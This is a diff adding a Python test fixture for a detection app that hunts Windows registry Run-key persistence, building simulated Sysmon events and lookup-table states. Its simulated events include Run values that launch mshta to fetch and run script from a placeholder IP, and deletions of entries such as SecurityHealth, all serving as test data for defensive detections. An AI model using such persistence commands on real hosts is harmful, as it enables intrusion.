@@ -1,0 +1,123 @@
+"""A site small enough for thousands of searches: the hosts with intrusions, and rows in every table that is read."""
+
+from __future__ import annotations
+
+from collections.abc import Sequence
+from dataclasses import dataclass, field, replace
+
+from tests.minisplunk.external import ExternalCommands
+from tests.minisplunk.index import Event
+from tests.minisplunk.kvstore import KvStore
+from tests.minisplunk.lookups import CsvTable, KvTable, LookupTable, LookupTables
+from tests.minisplunk.pipeline import Job, Rows
+from tests.minisplunk.sheets import MemoryFile
+from tests.minisplunk.splunk import Splunk
+from tests.minisplunk.timing import strftime
+from tests.minisplunk.values import Row, printed
+from tests.site.simulation.hosts import host
+from tests.site.simulation.moments import HOUR, at
+from tests.site.simulation.plots_of_run_keys import REG, stored_script
+from tests.site.simulation.processes import desktop
+from tests.site.simulation.rendering import indexed
+from tests.site.simulation.sysmon import SysmonEvent, changed, renamed, set_value
+from tests.site.simulation.week import Week
+
+_DAY = 24 * HOUR
+_MIDWEEK, _SUNDAY_MIDNIGHT = at("Wed 00:00"), at("Mon 00:00") + 7 * _DAY
+_LEARNING = "Run Key Hunt - Prevalence - Learn entries"
+_RUN = r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run"
+
+
+@dataclass
+class RememberingCommands(ExternalCommands):
+    """The app's commands; for rows that one has seen, no process is started again."""
+
+    _results: dict[tuple[str, ...], Rows] = field(default_factory=dict)
+
+    def _run(self, name: str, arguments: Sequence[str], rows: Rows, job: Job) -> Rows:
+        key = (name, *arguments, str(job.indexer), repr(rows))
+        if key not in self._results:
+            self._results[key] = super()._run(name, arguments, rows, job)
+        return self._results[key]
+
+
+class UnchangedTables(LookupTables):
+    """The tables of an app; a search that writes one writes into a copy that nobody reads."""
+
+    def written(self, name: str) -> LookupTable:
+        table = self.table(name)
+        if isinstance(table, KvTable):
+            return replace(table, collection=replace(table.collection, store=KvStore()))
+        assert isinstance(table, CsvTable)
+        return replace(table, file=MemoryFile(table.file.read()))
+
+
+def events_of_the_intrusions(simulated: Week) -> list[Event]:
+    """Take the hosts with intrusions, and add some events."""
+    hosts = {intrusion.host for intrusion in simulated.intrusions}
+    added = (indexed(event, 900_000 + number) for number, event in enumerate(_odd_events()))
+    return [*(event for event in simulated.events if event.host in hosts), *added]
+
+
+def _odd_events() -> tuple[SysmonEvent, ...]:
+    """Make what the week lacks.
+
+    Removals that meet one half of their alert each, payloads with odd letters, a renamed key, a stored program in XML.
+    """
+    administrator = desktop(host(31), "Sat")
+    reg = administrator.start_at(at("Sat 16:00"), REG)
+    program = administrator.start_at(at("Sat 16:05"), rf"{host(31).profile}\AppData\Local\Temp\setup.exe")
+    stored = next(event for event in stored_script().events if "lfState" in event.fields.get("TargetObject", ""))
+    odd = (
+        r"C:\Users\Public\odd[1.exe",
+        r"C:\Users\Public\odd]1.exe",
+        "mshta http://203.0.113.9/od[d/l",
+        "mshta http://203.0.113.9/od]d/l",
+        'mshta javascript:open("http://203.0.113.9/odd"+1)',
+    )
+    return (
+        changed("DeleteValue", reg, 0.1, rf"{_RUN}\Spotify"),
+        changed("DeleteValue", program, 0.1, rf"{_RUN}\SecurityHealth"),
+        renamed("RenameKey", reg, 0.5, f"{_RUN}-Off", _RUN),
+        replace(stored, host=host(31)),
+        *(set_value(reg, 1.0 + n, rf"{_RUN}\Odd {n}", command) for n, command in enumerate(odd)),
+    )
+
+
+def prepared(splunk: Splunk, kvstore: KvStore, event_fields: frozenset[str]) -> Splunk:
+    """Fill the tables of a Splunk that has been started, and let nothing change them from then on."""
+    started = splunk.commands
+    assert started is not None
+    commands = RememberingCommands(started.app, started.bundles, started.python, started.bytecode, started.fields)
+    splunk = replace(splunk, commands=commands, event_fields=event_fields)
+    _fill_tables(splunk.lookups)
+    splunk.search(started.app.saved_searches()[_LEARNING]["search"], _MIDWEEK, "-2d@d", "now")
+    _age_entries(splunk.lookups.table("runkeyhunt_entries"))
+    return replace(splunk, lookups=UnchangedTables.of_app(started.app, kvstore))
+
+
+def on_its_first_day(site: Splunk, untouched: Splunk) -> Splunk:
+    """Take the events from a site, and what its tables hold."""
+    assert untouched.commands is not None
+    return replace(site, indexers=(), lookups=UnchangedTables.of_app(untouched.commands.app, KvStore()))
+
+
+def _fill_tables(lookups: LookupTables) -> None:
+    """Write an approval and a weight of every state: in force, soon to expire, expired, without a date."""
+    days = [strftime(_SUNDAY_MIDNIGHT + day * _DAY, "%Y-%m-%d") for day in (100, 10, -1)]
+    approval = {"location": "Run", "command": r"C:\Till\till.exe", "writer": "*"}
+    common = {"hosts": "till-*", "reason": "Tills of the shops", "owner": "analyst"}
+    expiries = list(enumerate([*days, "next year"]))
+    approvals = [{**approval, **common, "value_name": f"Till {number}", "expires": day} for number, day in expiries]
+    weights = [{**common, "rule": "mshta", "weight": str(number), "expires": day} for number, day in expiries]
+    lookups.table("runkeyhunt_baseline").write(approvals, append=True)
+    lookups.table("runkeyhunt_tuning").write(weights, append=True)
+
+
+def _age_entries(entries: LookupTable) -> None:
+    """Let the site have learned for a month, one entry with a score that it has no more, and another too old to keep."""
+    mark = next(row for row in entries.rows() if row["_key"] == "learning")
+    known = next(row for row in entries.rows() if row["_key"] != "learning")
+    old: Row = {**known, "_key": "0" * 32, "last_seen": printed(_SUNDAY_MIDNIGHT - 200 * _DAY)}
+    aged = [{**mark, "first_seen": printed(_MIDWEEK - 30 * _DAY)}, {**known, "score": "99"}, old]
+    entries.write(aged, append=True)
